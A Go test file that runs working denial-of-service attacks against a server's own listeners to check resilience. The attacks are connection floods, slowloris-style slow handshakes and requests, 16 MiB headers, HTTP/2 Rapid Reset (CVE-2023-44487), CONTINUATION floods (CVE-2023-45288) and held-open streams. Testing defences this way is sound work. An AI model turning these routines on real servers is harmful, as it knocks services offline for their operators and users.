package attack

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacks are what strangers do to a listener. Each ends by itself.
var attacks = []struct {
	name    string
	against string // one target; empty: all
	run     func(*testing.T, *victim)
}{
	{name: "20000 connections", run: connections},
	{name: "slow handshakes", run: slowly([]byte{0x16, 3, 1, 0x40, 0}, 0)},
	{name: "slow headers", against: "metrics", run: slowly([]byte("GET / HTTP/1.1\r\nHost: x\r\n"), 'a')},
	{name: "slow requests", against: "metrics", run: slowly([]byte("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"), 'a')},
	{name: "huge headers", against: "metrics", run: hugeHeader},
	{name: "rapid reset", against: "admission", run: rapidReset},
	{name: "endless headers", against: "admission", run: endlessHeaders},
	{name: "streams held open", against: "admission", run: heldStreams},
}

// connections opens 20,000 and says nothing; as many stay open here as one
// process may have.
func connections(t *testing.T, v *victim) {
	const all, keep, workers = 20_000, 6_000, 8
	var opening sync.WaitGroup
	for range workers {
		opening.Go(func() {
			var open []net.Conn
			for range all / workers {
				if len(open) == keep/workers {
					open[0].Close()
					open = open[1:]
				}
				c, err := net.DialTimeout("tcp", v.addr, 30*time.Second)
				if err != nil {
					t.Logf("the attacker is refused: %v", err)
					continue
				}
				open = append(open, c)
			}
			for _, c := range open {
				c.Close()
			}
		})
	}
	opening.Wait()
}

// slowly opens connections that begin like an honest one, and go on an octet at
// a time.
func slowly(begin []byte, next byte) func(*testing.T, *victim) {
	return func(t *testing.T, v *victim) {
		const many, octets = 500, 20
		var open []net.Conn
		for range many {
			c, err := net.DialTimeout("tcp", v.addr, 30*time.Second)
			if err != nil {
				t.Logf("the attacker is refused: %v", err)
				continue
			}
			defer c.Close()
			open = append(open, c)
			_, _ = c.Write(begin)
		}
		for range octets {
			for _, c := range open {
				_, _ = c.Write([]byte{next})
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
}

// hugeHeader sends headers of 16 MiB.
func hugeHeader(_ *testing.T, v *victim) {
	for range 10 {
		c, err := net.Dial("tcp", v.addr)
		if err != nil {
			continue
		}
		_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\nX-Fill: ")
		fill := strings.Repeat("a", 64<<10)
		for range 256 {
			if _, err := io.WriteString(c, fill); err != nil {
				break
			}
		}
		c.Close()
	}
}

// http2Conn opens an HTTP/2 connection and takes what comes.
func http2Conn(v *victim) (*http2.Framer, net.Conn, error) {
	c, err := tls.Dial("tcp", v.addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, c) }()
	f := http2.NewFramer(c, nil)
	return f, c, f.WriteSettings()
}

func request(path, method string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "x"}, {":path", path}} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	return block.Bytes()
}

// rapidReset opens 100,000 streams and resets each at once (CVE-2023-44487).
func rapidReset(_ *testing.T, v *victim) {
	const all, perConnection = 100_000, 5_000
	block := request("/slow", "GET")
	for range all / perConnection {
		f, c, err := http2Conn(v)
		if err != nil {
			continue
		}
		for n := range uint32(perConnection) {
			if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
				f.WriteRSTStream(2*n+1, http2.ErrCodeCancel) != nil {
				break
			}
		}
		c.Close()
	}
}

// endlessHeaders never ends the headers of a request (CVE-2023-45288).
func endlessHeaders(_ *testing.T, v *victim) {
	fill := request("/"+strings.Repeat("a", 8<<10), "GET")
	for range 5 {
		f, c, err := http2Conn(v)
		if err != nil {
			continue
		}
		err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request("/", "GET")})
		for n := 0; err == nil && n < 4096; n++ {
			err = f.WriteContinuation(1, false, fill)
		}
		c.Close()
	}
}

// heldStreams keeps as many requests open as it may, on many connections, each
// with a body that never ends.
func heldStreams(_ *testing.T, v *victim) {
	const many, streams = 100, 200
	block, body := request("/mutate", "POST"), make([]byte, 16<<10)
	var open []net.Conn
	for range many {
		f, c, err := http2Conn(v)
		if err != nil {
			continue
		}
		open = append(open, c)
		for n := range uint32(streams) {
			if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndHeaders: true}) != nil {
				break
			}
			if n < 60 { // what the window of the connection takes
				_ = f.WriteData(2*n+1, false, body)
			}
		}
	}
	time.Sleep(time.Second)
	for _, c := range open {
		c.Close()
	}
}
